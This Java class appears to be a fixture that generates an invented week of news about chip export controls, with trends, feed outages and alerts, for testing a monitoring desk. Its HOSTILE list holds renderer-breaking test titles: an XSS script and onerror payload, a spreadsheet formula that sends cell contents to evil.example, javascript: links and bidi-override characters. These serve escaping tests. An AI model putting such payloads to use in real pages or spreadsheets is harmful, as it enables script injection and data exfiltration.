package io.bellwether.desk.sample;

import io.bellwether.article.alert.Alert;
import io.bellwether.article.alert.Severity;
import io.bellwether.article.item.Article;
import io.bellwether.article.profile.Calibration;
import io.bellwether.article.profile.Profile;
import io.bellwether.article.profile.Theme;
import io.bellwether.article.tag.ArticleField;
import io.bellwether.article.tag.Evidence;
import io.bellwether.article.tag.Tag;
import io.bellwether.article.trend.Baseline;
import io.bellwether.article.trend.Change;
import io.bellwether.article.trend.Surprise;
import io.bellwether.article.trend.Trend;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/**
 * Invented news of week 3 of 2026 as read in Warsaw, and of the weeks before: one theme bursts, one falls silent, one has no baseline, three
 * hours of Wednesday night are dark, a name is new, and some titles try to break whatever shows them.
 */
public final class SampleWeek {

    /** When the week begins in Warsaw. */
    public static final Instant BEGIN = Instant.parse("2026-01-11T23:00:00Z");
    /** When it ends. */
    public static final Instant END = BEGIN.plus(Duration.ofDays(7));
    /** A quiet week, of theme {@code talent} too. */
    public static final String PRIVACY = "data-privacy";
    /** Titles that try to break a document. */
    public static final List<String> HOSTILE = List.of(
            "<script>document.title='owned'</script><img src=x onerror=alert(1)> chips",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"chips\")",
            "[chips](javascript:alert(1)) ![chips](https://evil.example/x.png) | **chips** `chips` <https://evil.example>",
            "\u202Ekcatta spihc\u202C \u2066chips\u2069 \u200Fchips\u0007",
            "Китай смягчает контроль за экспортом чипов, Αθήνα αντιδρά",
            "قيود التصدير على الرقائق تتسع لتشمل الموردين",
            "英伟达称出口管制影响有限 chips",
            "Donaudampfschifffahrt".repeat(30),
            "");

    private static final String VERSION = "77aa01c2";
    private static final List<String> PUBLISHERS = List.of(
            "Harbour Courier",
            "The Ledger",
            "Port Observer",
            "Morning Gazette",
            "Wire of the North",
            "Der Tagesanzeiger",
            "Le Quotidien",
            "Kurier Poranny",
            "Capital Post");

    private final StoreRows rows;
    private final Random random = new Random(7);

    private SampleWeek(StoreRows rows) {
        this.rows = rows;
    }

    /** Fills a store with all of it. */
    public static void fill(StoreRows rows) {
        SampleWeek week = new SampleWeek(rows);
        rows.add(profile());
        rows.addFeed("https://courier.example/feed", "Harbour Courier", "", END.plusSeconds(900));
        rows.addFeed("https://ledger.example/rss", "The Ledger", "", END.plusSeconds(900));
        rows.addGap("https://ledger.example/rss", BEGIN.plus(Duration.ofHours(60)));
        rows.addFeed(
                "https://gazette.example/a/rather/long/address/of/a/feed.xml?format=rss&edition=international",
                "",
                "503 Service Unavailable: the server asks to come back in 30 minutes",
                BEGIN.plus(Duration.ofHours(30)));
        week.trends();
        week.stories();
        week.hostile();
    }

    /** Nine themes with titles as long as real ones. */
    public static Profile profile() {
        return new Profile(
                "impact",
                VERSION,
                "The impact of a new model",
                Stream.of(SampleTheme.values())
                        .map(theme -> new Theme(
                                theme.id,
                                theme.title,
                                List.of(theme.title),
                                List.of(),
                                List.of(),
                                List.of(),
                                List.of(),
                                new Calibration(4, 1),
                                0.5,
                                0.8))
                        .toList());
    }

    private enum SampleTheme {
        EXPORTS("export-controls", "Export controls, enforcement gaps and technology containment", 0.32),
        PRIVACY_BANS(PRIVACY, "Data privacy and national security bans", 0.04),
        MARKETS("market-shock", "Market shock and the price of computing", 0.25),
        OPEN("open-models", "Open-source strategy and the setting of standards", 0.18),
        COST("training-cost", "What training costs, and what it is said to cost", 0.12),
        TALENT("talent", "Talent and research capacity", 0.05),
        MILITARY("military-use", "Military use and autonomous systems", 0.06),
        CENSORSHIP("censorship", "Censorship and the control of answers", 0.05),
        ALLIES("allies", "Allies between two suppliers", 0.03);

        private final String id;
        private final String title;
        private final double rate;

        SampleTheme(String id, String title, double rate) {
            this.id = id;
            this.title = title;
            this.rate = rate;
        }
    }

    /** The week and the one before, by hour and theme. */
    private void trends() {
        for (int at = -168; at < 168; at++) {
            if (at < 50 || at >= 53) {
                for (SampleTheme theme : SampleTheme.values()) {
                    trend(theme, at);
                }
            }
        }
    }

    private void trend(SampleTheme theme, int at) {
        double day = Math.floorMod(at, 24) < 6 ? 0.3 : 1.2;
        double expected = theme.rate * day;
        double burst = theme == SampleTheme.PRIVACY_BANS && at >= 72 && at < 96 ? 12 : 1;
        int stories = theme == SampleTheme.OPEN && at >= 0 ? 0 : count(expected * burst);
        boolean known = theme != SampleTheme.TALENT;
        rows.add(new Trend(
                theme.id,
                BEGIN.plus(Duration.ofHours(at)),
                2 * stories,
                stories,
                Math.min(stories, 2),
                (int) (60 * day),
                true,
                List.of(VERSION),
                known ? new Baseline(expected, Math.sqrt(expected + 0.01 * expected * expected)) : null,
                known ? new Surprise(Change.RISE, Duration.ofHours(6), stories, 6 * expected, 0.5, -5) : null));
    }

    /** A count with that mean: of Poisson's law, by the product of uniform numbers (Knuth). */
    private int count(double mean) {
        double limit = Math.exp(-mean);
        int count = 0;
        for (double product = random.nextDouble(); product > limit; product *= random.nextDouble()) {
            count++;
        }
        return count;
    }

    private void stories() {
        for (int at = 0; at < 60; at++) {
            SampleTheme theme = SampleTheme.values()[at % SampleTheme.values().length];
            Instant first = BEGIN.minus(Duration.ofHours(7L * at + 5));
            story("before" + at, theme, "Ministry number %d weighs rules on chips".formatted(at), 1 + at % 3, first);
        }
        for (int at = 0; at < 40; at++) {
            SampleTheme theme = SampleTheme.values()[at * 2 % SampleTheme.values().length];
            String title = at % 6 == 0
                    ? "Regulators put a question to Kestrel Labs over its model, number %d".formatted(at)
                    : at % 2 == 1
                            ? "Licence rule number %d reaches resellers of chips".formatted(at)
                            : "Ministry number %d weighs rules on chips".formatted(at);
            story("now" + at, theme, title, 1 + at % 9, BEGIN.plus(Duration.ofHours(4L * at + 1)));
        }
    }

    private void hostile() {
        for (int at = 0; at < HOSTILE.size(); at++) {
            story(
                    "hostile" + at,
                    SampleTheme.EXPORTS,
                    HOSTILE.get(at),
                    PUBLISHERS.size(),
                    BEGIN.plus(Duration.ofHours(70L + at)));
        }
    }

    private void story(String story, SampleTheme theme, String title, int articles, Instant first) {
        List<Article> told = new ArrayList<>();
        for (int at = 0; at < articles; at++) {
            Instant time = first.plus(Duration.ofMinutes(7L * at));
            Article article = new Article(
                    story + "-" + at,
                    "https://courier.example/feed",
                    PUBLISHERS.get((at + story.length()) % PUBLISHERS.size()),
                    title,
                    "",
                    "chips",
                    "https://courier.example/" + story + "/" + at,
                    time,
                    time,
                    List.of(),
                    List.of());
            rows.add(article);
            rows.add(article.id(), story, VERSION, new Tag(theme.id, 0.9, true, evidence()));
            told.add(article);
        }
        if (articles > 4) {
            alert(story, theme, told);
        }
    }

    private static List<Evidence> evidence() {
        return List.of(new Evidence("chip", ArticleField.BODY, 0, 5, "chips", 1.5));
    }

    /** The first publisher of an alert's story has only copied. */
    private void alert(String story, SampleTheme theme, List<Article> told) {
        List<String> sources =
                told.stream().skip(1).map(Article::source).distinct().toList();
        rows.add(new Alert(
                story,
                theme.id,
                told.size() > 7 ? Severity.HIGH : told.size() > 5 ? Severity.MEDIUM : Severity.LOW,
                0.9,
                told.getFirst().time(),
                told.getLast().time(),
                VERSION,
                List.of(),
                evidence(),
                sources,
                List.of()));
    }
}
